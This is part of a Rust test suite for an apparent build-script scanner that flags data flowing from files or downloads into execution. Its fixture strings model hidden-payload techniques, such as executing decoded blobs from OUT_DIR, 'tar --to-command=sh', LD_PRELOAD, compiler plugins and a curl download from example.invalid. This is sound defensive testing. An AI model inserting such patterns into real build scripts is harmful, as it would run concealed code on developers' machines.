    assert!(names(&sent).contains("secret-read") && names(&sent).contains("network"));
    // Nothing is run that was not there before.
    for line in
        ["git rev-parse HEAD | cut -c1-7", "echo $(rustc --version) > version.txt", "make -j4"]
    {
        assert_eq!(flow(&shell(line)), [], "{line}");
        assert!(!names(&shell(line)).contains("network"), "{line}");
    }
}

#[test]
fn a_program_that_only_moves_data_does_not_run_it() {
    let facts = build(
        "use std::process::Command; fn main() { let out = std::env::var(\"OUT_DIR\").unwrap();
         let to = format!(\"{out}/a.tgz\"); Command::new(\"curl\").arg(\"-o\").arg(&to).arg(\"https://example.invalid/a\").status();
         Command::new(\"tar\").args([\"xzf\", &to, \"-C\", &out]).status(); }",
    );
    assert!(facts.flows.iter().all(|flow| flow.sink != StepKind::Spawn), "{:?}", flow_of(&facts));
}

#[test]
fn a_glob_of_another_crate_does_not_hide_what_is_written_out() {
    let facts = build(
        "use base64::prelude::*; fn main() { let p = String::from(\"curl\");
         std::process::Command::new(p).arg(\"x\").status(); BASE64_STANDARD.decode(\"aaaa\"); }",
    );
    let seen = names(&facts);
    assert!(["decode", "download", "spawn"].iter().all(|n| seen.contains(n)), "{seen:?}");
}

/// Source, sink and what is told of the way, of flows that run.
fn running(text: &str) -> Vec<(StepKind, StepKind, bool, bool)> {
    let flows = build(text).flows;
    let runs = flows.into_iter().filter(|flow| flow.executed);
    runs.map(|f| (f.source, f.sink, f.decoded || f.altered, f.disguised)).collect()
}

#[test]
fn what_runs_is_found_whatever_happened_to_it() {
    let change = [
        "data",
        "data.into_iter().step_by(2).collect::<Vec<u8>>()",
        "{ let mut out = Vec::new(); for p in data.chunks(2) { out.resize(p[0] as usize, p[1]); } out }",
        "data.iter().map(|b| b.wrapping_sub(3)).collect::<Vec<u8>>()",
    ];
    for (index, change) in change.iter().enumerate() {
        let text = format!(
            "fn load(name: &str) -> Vec<u8> {{ std::fs::read(name).unwrap() }}
             fn mend(data: Vec<u8>) -> Vec<u8> {{ {change} }}
             fn main() {{ let place = format!(\"{{}}/gen\", std::env::var(\"OUT_DIR\").unwrap());
             std::fs::write(&place, mend(load(\"data/seed.bin\"))).unwrap();
             std::process::Command::new(&place).status().unwrap(); }}"
        );
        let flows = running(&text);
        assert_eq!(flows, [(StepKind::Read, StepKind::Spawn, index > 0, true)], "{text}");
    }
}

#[test]
fn functions_are_followed_however_they_are_called() {
    let calls = [
        "let f = finish; f(load())",
        "let f = |d: Vec<u8>| finish(d); f(load())",
        "let t: [fn(Vec<u8>); 1] = [finish]; for f in t { f(load()); }",
        "std::iter::once(load()).for_each(finish)",
        "Some(load()).map(finish);",
        "apply(finish, load())",
        "let s = Stage { step: finish, data: load() }; (s.step)(s.data)",
        "drop(Held(load()))",
        "let (tx, rx) = std::sync::mpsc::channel(); tx.send(load()).unwrap(); finish(rx.recv().unwrap())",
        "let b: Box<dyn Run> = Box::new(Two); b.run(load())",
        "steps!(load, finish)",
        "made(load())",
        "let (a, _b) = (load(), 1); finish(a)",
    ];
    let mut lost = Vec::new();
    for call in calls {
        let text = format!(
            "fn load() -> Vec<u8> {{ std::fs::read(\"data/seed.bin\").unwrap() }}
             fn finish(d: Vec<u8>) {{ std::fs::write(\"/tmp/x/gen\", d).unwrap(); std::process::Command::new(\"/tmp/x/gen\").spawn(); }}
             fn apply(f: fn(Vec<u8>), d: Vec<u8>) {{ f(d) }}
             struct Stage {{ step: fn(Vec<u8>), data: Vec<u8> }}
             struct Held(Vec<u8>); impl Drop for Held {{ fn drop(&mut self) {{ finish(self.0.clone()) }} }}
             trait Run {{ fn run(&self, d: Vec<u8>); }} struct One; struct Two;
             impl Run for One {{ fn run(&self, _d: Vec<u8>) {{}} }} impl Run for Two {{ fn run(&self, d: Vec<u8>) {{ finish(d) }} }}
             macro_rules! steps {{ ($a:ident, $($b:ident),+) => {{ $($b($a());)+ }}; }}
             macro_rules! function {{ ($name:ident) => {{ fn $name(d: Vec<u8>) {{ finish(d) }} }}; }}
             function!(made);
             fn main() {{ {call} }}"
        );
        let flows = running(&text);
        if !flows.contains(&(StepKind::Read, StepKind::Spawn, false, true)) {
            lost.push((call, flows));
        }
    }
    assert_eq!(lost, []);
}

#[test]
fn every_end_where_data_runs_is_one() {
    let out = "let out = std::env::var(\"OUT_DIR\").unwrap(); let data = std::fs::read(\"data/seed.bin\").unwrap();";
    for (end, sink) in [
        (
            "let p = format!(\"{out}/g\"); std::fs::write(&p, data); std::process::Command::new(\"timeout\").arg(\"9\").arg(&p).status();",
            StepKind::Spawn,
        ),
        (
            "let p = format!(\"{out}/g\"); std::fs::write(&p, data); std::process::Command::new(\"sudo\").args([\"-n\", &p]).status();",
            StepKind::Spawn,
        ),
        (
            "std::fs::write(format!(\"{out}/cc\"), data); std::process::Command::new(\"make\").env(\"PATH\", format!(\"{out}:/bin\")).status();",
            StepKind::Spawn,
        ),
        (
            "std::fs::write(format!(\"{out}/x.so\"), data); std::process::Command::new(\"make\").env(\"LD_PRELOAD\", format!(\"{out}/x.so\")).status();",
            StepKind::Load,
        ),
        (
            "let p = format!(\"{out}/g\"); std::fs::write(&p, data); std::process::Command::new(\"tar\").arg(format!(\"--to-command={p}\")).status();",
            StepKind::Spawn,
        ),
        (
            "std::process::Command::new(\"tar\").args([\"xf\", \"data/seed.bin\", \"--to-command=sh\"]).status();",
            StepKind::Spawn,
        ),
        (
            "let p = format!(\"{out}/p.so\"); std::fs::write(&p, data); std::process::Command::new(\"clang\").arg(format!(\"-fplugin={p}\")).status();",
            StepKind::Load,
        ),
        (
            "std::fs::write(format!(\"{out}/libq.a\"), data); println!(\"cargo:rustc-link-lib=static:+whole-archive=q\");",
            StepKind::Link,
        ),
        (
            "let p = format!(\"{out}/q.o\"); std::fs::write(&p, data); cc::Build::new().object(&p).compile(\"q\");",
            StepKind::Link,
        ),
        ("std::fs::write(format!(\"{out}/t.rs\"), data);", StepKind::Include),
        (
            "let t = String::from_utf8(data).unwrap(); let _: proc_macro2::TokenStream = t.parse::<proc_macro2::TokenStream>().unwrap();",
            StepKind::Include,
        ),
    ] {
        let flows = running(&format!("fn main() {{ {out} {end} }}"));
        assert!(flows.iter().any(|f| f.0 == StepKind::Read && f.1 == sink), "{end}: {flows:?}");
    }
}

#[test]
fn what_honest_scripts_do_with_files_does_not_run() {
    for text in [
        // A table becomes literals.
        "use std::fmt::Write; fn main() { let data = std::fs::read(\"data/t.bin\").unwrap(); let mut s = String::from(\"pub const T: &[u8] = &[\");
         for b in data.iter().map(|b| b + 1) { write!(s, \"{b},\").unwrap(); } s.push_str(\"];\");
         std::fs::write(std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"t.rs\"), s).unwrap(); }",
        // Lines of a text become source.
        "use std::io::Write; fn main() { let text = std::fs::read_to_string(\"data/names.json\").unwrap();
         let mut f = std::fs::File::create(std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"t.rs\")).unwrap();
         for line in text.lines() { let (a, b) = line.split_once(':').unwrap(); writeln!(f, \"pub const {}: u32 = {};\", a, b); } }",
        // Linker scripts and objects under their own names.
        "fn main() { let out = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());
         std::fs::write(out.join(\"link.x\"), include_bytes!(\"link.x.in\")); println!(\"cargo:rustc-link-search={}\", out.display());
         let mut src = std::env::current_dir().unwrap(); src.push(\"rt\"); src.push(\"libc.a\");
         std::fs::copy(&src, out.join(\"libd.a\")).unwrap(); println!(\"cargo:rustc-link-lib=static=d\"); }",
        // A script, run as one; a version as an argument; code for rustfmt.
        "use std::process::Command; fn main() { Command::new(\"python3\").arg(\"tools/gen.py\").status();
         let v = std::fs::read_to_string(\"VERSION\").unwrap(); Command::new(\"python3\").args([\"x.py\", \"--version\", v.trim()]).status();
         Command::new(\"cmake\").arg(format!(\"-DV={}\", v)).status(); }",
        // A file that the machine has.
        "fn main() { let p = format!(\"{}/lib.txt\", std::env::var(\"SDK\").unwrap()); let d = std::fs::read(p).unwrap();
         let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(format!(\"{out}/libx.a\"), d); println!(\"cargo:rustc-link-lib=x\"); }",
    ] {
        let flows = running(text);
        assert!(!flows.iter().any(|f| f.3 || (f.2 && f.1 != StepKind::Link)), "{text}: {flows:?}");
    }
}

#[test]
fn macros_that_expand_without_end_are_bounded() {
    let facts = build(
        "macro_rules! a { ($($x:tt)*) => { a!($($x)* 1); a!($($x)* 2) }; } macro_rules! b { () => { b!(); b!(); } }
         fn main() { a!(); b!(); std::process::Command::new(\"sh\"); }",
    );
    assert!(facts.work < 500_000, "{}", facts.work);
    assert!(names(&facts).contains("shell"));
}

#[test]
fn names_in_nested_repetitions_share_their_rounds() {
    // A copy of the rounds for each name and level would be two to the power of thirty.
    let nested = |inner: &str| format!("{}{inner}{}", "$(".repeat(30), ")*".repeat(30));
    let facts = build(&format!(
        "macro_rules! a {{ ({}) => {{ {} }} }} fn main() {{ a!(x y z w); }}",
        nested("$a:ident $b:ident"),
        nested("std::net::TcpStream::connect(stringify!($a $b));"),
    ));
    let expanded = facts.capabilities.iter().filter(|hit| hit.capability.as_str() == "raw-socket");
    assert_eq!(expanded.count(), 1, "{facts:?}");
}

#[test]
fn a_sign_alone_is_no_literal_of_two_tokens() {
    // A census came upon it: the sign is all that is left of what the macro is given.
    let facts = build(
        "macro_rules! of { ($a:literal) => {}; ($($x:tt)*) => { std::net::TcpStream::connect(\"x\") }; }
         fn main() { of!(-); of!(a -); }",
    );
    assert!(names(&facts).contains("raw-socket"), "{facts:?}");
}

#[test]
fn a_thread_with_room_reads_what_a_thread_of_its_own_reads() {
    let deep = format!("fn main() {{ let _ = {}1{}; }}", "(".repeat(150), ")".repeat(150));
    let cut = "fn main() { std::process::Command::new(\"sh\"); ".to_owned();
    let texts = [deep, cut, "fn main() { std::net::TcpStream::connect(\"x\").ok(); }".to_owned()];
    let apart: Vec<String> = texts.iter().map(|text| format!("{:?}", build(text))).collect();
    let with_room = move || {
        with_room();
        texts.iter().map(|text| format!("{:?}", build(text))).collect::<Vec<_>>()
    };
    let thread = std::thread::Builder::new().stack_size(STACK + (8 << 20)).spawn(with_room);
    assert_eq!(thread.expect("starts").join().expect("ends"), apart);
}

#[test]
fn tokens_are_resolved_by_the_imports_of_their_file() {
    let spellings = [
        ("use std::net::*; fn f() { TcpStream::connect(x) }", true),
        ("use std::net::TcpStream as Line; fn f() { Line::connect(x) }", true),
        ("use std as s; fn f() { s::net::TcpStream::connect(x) }", true),
        ("use own::*; use core::net::*; use std::net::*; fn f() { TcpStream::connect(x) }", true),
        ("use own::*; use std::fmt::*; fn f() { TcpStream::connect(x) }", false),
        ("use own::TcpStream; fn f() { TcpStream::connect(x) }", false),
        ("fn f() { TcpStream::connect(x) }", false),
        ("fn f(reqwest: u8) -> u8 { reqwest }", false),
        ("fn f() { reqwest::get(x) }", true),
        ("use reqwest as r; fn f() { r::get(x) }", true),
    ];
    for (text, reaches) in spellings {
        let facts = scan("src/lib.rs", text.as_bytes(), table(), false);
        let network = |name: &&str| matches!(*name, "raw-socket" | "network" | "download");
        assert_eq!(names(&facts).iter().any(network), reaches, "{text}\n{facts:?}");
    }
}
